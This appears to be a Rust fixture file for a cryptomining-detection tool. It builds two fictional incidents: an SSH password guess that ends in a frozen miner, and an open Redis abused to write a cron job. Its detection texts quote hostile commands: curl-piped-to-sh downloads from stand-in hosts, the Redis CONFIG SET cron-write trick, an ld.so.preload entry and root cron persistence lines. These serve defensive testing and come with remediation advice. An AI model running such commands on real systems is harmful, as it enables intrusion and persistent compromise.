//! Made-up intrusions: one that ends in mining and was stopped, one without mining that goes on.

use std::net::SocketAddr;

use minesweep_model::{
    Action, Detection, Entry, Evidence, Group, Incident, IncidentState, Mining, Outcome, OutcomeState,
    Process, ProcessKey, Severity, Text,
};

use crate::{
    miners::{stratum, wallet},
    parts::{HOUR_MS, MINUTE_MS, PRICE, SECOND_MS, Said, detection, evidence, probability, process},
};

const CRON: [&str; 4] = ["T1053.003", "Cron", "TA0003", "Persistence"];
const SHELL: [&str; 4] = ["T1059.004", "Unix Shell", "TA0002", "Execution"];
const FETCH: [&str; 4] = ["T1105", "Ingress Tool Transfer", "TA0011", "Command and Control"];

/// Who did a step: the process and its parent.
type Actor<'a> = (&'a Process, &'a Process);

/// A step of an intrusion: its evidence says nothing of mining.
fn step(said: Said<'_>, at_ms: u64, (subject, parent): Actor<'_>, incident: &str) -> Detection {
    let why = said.why.clone();
    let mut step = detection(said, at_ms, Some(subject), Some(incident));
    step.parent = Some(parent.clone());
    step.evidence = vec![evidence(&step.rule, Group::Behaviour, 0.0, at_ms, why)];
    step
}

fn from(mut step: Detection, address: [u8; 4], port: u16) -> Detection {
    step.remote = Some(SocketAddr::from((address, port)));
    step
}

fn evidence_of(steps: &[Detection]) -> impl Iterator<Item = Evidence> {
    steps.iter().flat_map(|step| step.evidence.iter().cloned())
}

/// The first step is how they came in.
fn entry(steps: &[Detection]) -> Option<Entry> {
    steps.first().map(|step| Entry { at_ms: step.at_ms, remote: step.remote, text: step.why.clone() })
}

/// Every process of the steps once, the root first.
fn members(root: &Process, steps: &[Detection]) -> Vec<ProcessKey> {
    let mut keys = vec![root.key];
    for key in steps.iter().filter_map(|step| step.subject.as_ref()).map(|subject| subject.key) {
        if !keys.contains(&key) {
            keys.push(key);
        }
    }
    keys
}

/// The processes of the login.
struct Session {
    sshd: Process,
    login: Process,
    bash: Process,
    script: Process,
    miner: Process,
}

impl Session {
    fn new(since_ms: u64) -> Self {
        let miner = "/var/tmp/.sys/udevd-sync";
        Self {
            sshd: process(812, 1, 0, "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"], since_ms - 90 * HOUR_MS),
            login: process(31_402, 812, 0, "/usr/sbin/sshd", &["sshd: deploy [priv]"], since_ms),
            bash: process(31_420, 31_402, 1001, "/usr/bin/bash", &["-bash"], since_ms + 2 * SECOND_MS),
            script: process(31_438, 31_420, 0, "/usr/bin/dash", &["sh", "-s"], since_ms + 41 * SECOND_MS),
            miner: process(
                31_466,
                31_438,
                0,
                miner,
                &[miner, "--config=/var/tmp/.sys/c"],
                since_ms + 55 * SECOND_MS,
            ),
        }
    }
}

/// A password guessed over SSH, and what came of it: a script, a cron line, a preloaded library, a miner that was
/// frozen.
pub fn guessed_password(now_ms: u64) -> Incident {
    let uid = "inc-3f2a81c0";
    let since_ms = now_ms - 3 * HOUR_MS;
    let session = Session::new(since_ms);
    let mut findings = session_steps(&session, since_ms, uid);
    let signs = vec![evidence(
        "mining.stratum",
        Group::Protocol,
        0.95,
        since_ms + 57 * SECOND_MS,
        Text::new("login and two jobs of the cryptonote dialect", "cryptonote 方言的登录和两个任务"),
    )];
    let why = Text::new(
        "it logged in at xmr.pool.example:5555 with a wallet (cryptonote dialect)",
        "它用钱包登录 xmr.pool.example:5555（cryptonote 方言）",
    );
    let mined = detection(stratum(why), since_ms + 57 * SECOND_MS, Some(&session.miner), Some(uid));
    findings.push(from(mined, [203, 0, 113, 9], 5555));
    let mining = Mining {
        probability: probability(&signs),
        pool: Some("xmr.pool.example:5555".to_owned()),
        wallet: Some(wallet()),
        algorithm: Some("rx/0".to_owned()),
        cpu_seconds: 9.2,
        cost: 9.2 / 3_600.0 * PRICE,
        pids: vec![session.miner.key.pid],
        ..Mining::default()
    };
    Incident {
        uid: uid.to_owned(),
        since_ms,
        opened_ms: since_ms,
        changed_ms: since_ms + MINUTE_MS,
        state: IncidentState::Contained,
        severity: Severity::Critical,
        title: Text::new(
            "udevd-sync (31466) mines for xmr.pool.example:5555",
            "udevd-sync（31466）正在为 xmr.pool.example:5555 挖矿",
        ),
        entry: entry(&findings),
        processes: members(&session.login, &findings),
        mining,
        evidence: signs.into_iter().chain(evidence_of(&findings)).collect(),
        findings,
        folded: 213,
        outcomes: stopped(&session, since_ms, uid),
        root: session.login,
    }
}

fn stopped(session: &Session, since_ms: u64, uid: &str) -> Vec<Outcome> {
    let done = |entry: u64, action: Action, target: &Process| Outcome {
        entry,
        at_ms: since_ms + 57 * SECOND_MS + entry * 3,
        cause: uid.to_owned(),
        action,
        target: target.clone(),
        state: OutcomeState::Done,
    };
    vec![
        done(3, Action::CutSocket { process: session.miner.key, cookie: 9_120 }, &session.miner),
        done(4, Action::Freeze { process: session.miner.key }, &session.miner),
        done(5, Action::Freeze { process: session.script.key }, &session.script),
    ]
}

fn session_steps(session: &Session, since_ms: u64, uid: &str) -> Vec<Detection> {
    let Session { sshd, login, bash, script, .. } = session;
    let after = |seconds: u64| since_ms + seconds * SECOND_MS;
    vec![
        from(step(guessed(), after(0), (login, sshd), uid), [203, 0, 113, 57], 40_218),
        step(became_root(), after(31), (bash, login), uid),
        from(step(ran_a_download(), after(41), (script, bash), uid), [192, 0, 2, 80], 80),
        step(wrote_cron(), after(44), (script, bash), uid),
        step(preloaded(), after(47), (script, bash), uid),
        step(wiped_history(), after(52), (bash, login), uid),
    ]
}

fn guessed() -> Said<'static> {
    Said {
        rule: "login.guessed-password",
        severity: Severity::High,
        confidence: 90,
        title: Text::new("A password was guessed", "密码被猜中"),
        why: Text::new(
            "sshd took the password of deploy after 214 failures from 203.0.113.57 in 6 minutes",
            "来自 203.0.113.57 的登录在 6 分钟内失败 214 次后，sshd 接受了 deploy 的密码",
        ),
        advice: Text::new(
            "Lock the account, end its sessions, and let SSH take keys only.",
            "锁定该账号，结束它的会话，并让 SSH 只接受密钥登录。",
        ),
        attacks: &[
            ["T1110.001", "Password Guessing", "TA0006", "Credential Access"],
            ["T1078.003", "Local Accounts", "TA0001", "Initial Access"],
        ],
    }
}

fn became_root() -> Said<'static> {
    Said {
        rule: "privilege.sudo-shell",
        severity: Severity::Medium,
        confidence: 60,
        title: Text::new("A shell of root by sudo", "通过 sudo 获得 root 的 shell"),
        why: Text::new("deploy ran: sudo -n /bin/sh", "deploy 执行了：sudo -n /bin/sh"),
        advice: Text::new(
            "Look at what /etc/sudoers lets deploy do without a password.",
            "检查 /etc/sudoers 允许 deploy 不用密码做什么。",
        ),
        attacks: &[["T1548.003", "Sudo and Sudo Caching", "TA0004", "Privilege Escalation"]],
    }
}

fn ran_a_download() -> Said<'static> {
    Said {
        rule: "execution.download-to-shell",
        severity: Severity::High,
        confidence: 85,
        title: Text::new("A download was run at once", "下载的内容被直接执行"),
        why: Text::new(
            "curl -fsSL http://192.0.2.80/i.sh | sh -s",
            "curl -fsSL http://192.0.2.80/i.sh | sh -s",
        ),
        advice: Text::new(
            "Keep the script as evidence, then block the address.",
            "先保留脚本作为证据，再封锁该地址。",
        ),
        attacks: &[SHELL, FETCH],
    }
}

fn wrote_cron() -> Said<'static> {
    Said {
        rule: "persistence.cron-file",
        severity: Severity::High,
        confidence: 80,
        title: Text::new("A cron line runs a file from a temporary folder", "定时任务运行临时目录中的文件"),
        why: Text::new(
            "it wrote /var/spool/cron/crontabs/root: */5 * * * * /var/tmp/.sys/up",
            "写入了 /var/spool/cron/crontabs/root：*/5 * * * * /var/tmp/.sys/up",
        ),
        advice: Text::new(
            "Remove the line before you end the miner; else it is back within five minutes.",
            "先删除这一行，再结束挖矿进程；否则五分钟内它会再次启动。",
        ),
        attacks: &[CRON],
    }
}

fn preloaded() -> Said<'static> {
    Said {
        rule: "hiding.preload-library",
        severity: Severity::Critical,
        confidence: 95,
        title: Text::new("A library is loaded into every program", "一个库被装入所有程序"),
        why: Text::new(
            "it wrote /etc/ld.so.preload: /usr/local/lib/libsysx.so, a file of no package",
            "写入了 /etc/ld.so.preload：/usr/local/lib/libsysx.so，该文件不属于任何软件包",
        ),
        advice: Text::new(
            "Trust no program that was started since; look with a static one. Then empty the file.",
            "此后启动的程序都不可信；请用静态编译的程序检查。然后清空该文件。",
        ),
        attacks: &[["T1574.006", "Dynamic Linker Hijacking", "TA0005", "Defense Evasion"]],
    }
}

fn wiped_history() -> Said<'static> {
    Said {
        rule: "hiding.history",
        severity: Severity::Medium,
        confidence: 70,
        title: Text::new("The command history was wiped", "命令历史被清除"),
        why: Text::new(
            "it emptied /home/deploy/.bash_history (12 KiB before)",
            "清空了 /home/deploy/.bash_history（此前 12 KiB）",
        ),
        advice: Text::default(),
        attacks: &[["T1070.003", "Clear Command History", "TA0005", "Defense Evasion"]],
    }
}

/// A Redis without a password that was made to write a cron file; it goes on, and does not mine.
pub fn open_redis(now_ms: u64) -> Incident {
    let uid = "inc-b7d4e652";
    let since_ms = now_ms - 38 * MINUTE_MS;
    let init = process(1, 0, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], since_ms - 90 * HOUR_MS);
    let redis_words = ["/usr/bin/redis-server 0.0.0.0:6379"];
    let redis = process(1_204, 1, 110, "/usr/bin/redis-server", &redis_words, since_ms - 89 * HOUR_MS);
    let cron = process(702, 1, 0, "/usr/sbin/cron", &["cron", "-f"], since_ms - 90 * HOUR_MS);
    let job_words = ["/bin/sh", "-c", "curl -fsS http://192.0.2.81/c | sh"];
    let job = process(40_112, 702, 0, "/usr/bin/dash", &job_words, since_ms + 2 * MINUTE_MS);
    let scan = process(40_131, 40_112, 0, "/usr/bin/dash", &["sh"], since_ms + 3 * MINUTE_MS);
    let findings = vec![
        from(step(redis_command(), since_ms, (&redis, &init), uid), [192, 0, 2, 44], 51_514),
        step(redis_cron(), since_ms + SECOND_MS, (&redis, &init), uid),
        from(step(cron_download(), since_ms + 2 * MINUTE_MS, (&job, &cron), uid), [192, 0, 2, 81], 80),
        step(redis_scan(), now_ms - 4 * MINUTE_MS, (&scan, &job), uid),
    ];
    Incident {
        uid: uid.to_owned(),
        since_ms,
        opened_ms: since_ms,
        changed_ms: now_ms - 4 * MINUTE_MS,
        state: IncidentState::Open,
        severity: Severity::Critical,
        title: Text::new(
            "redis-server (1204): A service wrote a cron file; Redis took orders without a password; Many hosts were \
             asked for Redis; and 1 more",
            "redis-server（1204）：服务写入了定时任务文件；Redis 未经密码接受了命令；向多台主机探测 Redis；另有 1 项",
        ),
        entry: entry(&findings),
        processes: members(&redis, &findings),
        mining: Mining { pids: vec![1_204, 40_131], ..Mining::default() },
        evidence: evidence_of(&findings).collect(),
        findings,
        folded: 60,
        outcomes: Vec::new(),
        root: redis,
    }
}

fn redis_command() -> Said<'static> {
    Said {
        rule: "entry.redis-config-set",
        severity: Severity::High,
        confidence: 90,
        title: Text::new("Redis took orders without a password", "Redis 未经密码接受了命令"),
        why: Text::new(
            "CONFIG SET dir /var/spool/cron and CONFIG SET dbfilename root, from 192.0.2.44 without AUTH",
            "来自 192.0.2.44 的 CONFIG SET dir /var/spool/cron 和 CONFIG SET dbfilename root，未经 AUTH",
        ),
        advice: Text::new(
            "Let Redis listen on 127.0.0.1 only, set a password, and rename CONFIG.",
            "让 Redis 只监听 127.0.0.1，设置密码，并重命名 CONFIG 命令。",
        ),
        attacks: &[["T1190", "Exploit Public-Facing Application", "TA0001", "Initial Access"]],
    }
}

fn redis_cron() -> Said<'static> {
    Said {
        rule: "persistence.cron-by-service",
        severity: Severity::Critical,
        confidence: 97,
        title: Text::new("A service wrote a cron file", "服务写入了定时任务文件"),
        why: Text::new(
            "it wrote /var/spool/cron/root: */2 * * * * curl -fsS http://192.0.2.81/c | sh",
            "写入了 /var/spool/cron/root：*/2 * * * * curl -fsS http://192.0.2.81/c | sh",
        ),
        advice: Text::new(
            "Delete /var/spool/cron/root, and look what it has run since.",
            "删除 /var/spool/cron/root，并检查它此后运行过什么。",
        ),
        attacks: &[CRON],
    }
}

fn cron_download() -> Said<'static> {
    Said {
        rule: "execution.download-to-shell",
        severity: Severity::High,
        confidence: 85,
        title: Text::new("A download was run at once", "下载的内容被直接执行"),
        why: Text::new("curl -fsS http://192.0.2.81/c | sh", "curl -fsS http://192.0.2.81/c | sh"),
        advice: Text::new(
            "Keep the script as evidence, then block the address.",
            "先保留脚本作为证据，再封锁该地址。",
        ),
        attacks: &[SHELL, FETCH],
    }
}

fn redis_scan() -> Said<'static> {
    Said {
        rule: "spreading.fan-out",
        severity: Severity::High,
        confidence: 80,
        title: Text::new("Many hosts were asked for Redis", "向多台主机探测 Redis"),
        why: Text::new(
            "it tried port 6379 of 61 addresses of 192.0.2.0/24 within 20 seconds",
            "20 秒内尝试连接 192.0.2.0/24 中 61 个地址的 6379 端口",
        ),
        advice: Text::new(
            "Cut this machine off from the private network until the cron line is gone.",
            "在删除定时任务之前，先断开这台机器与内网的连接。",
        ),
        attacks: &[["T1046", "Network Service Discovery", "TA0007", "Discovery"]],
    }
}
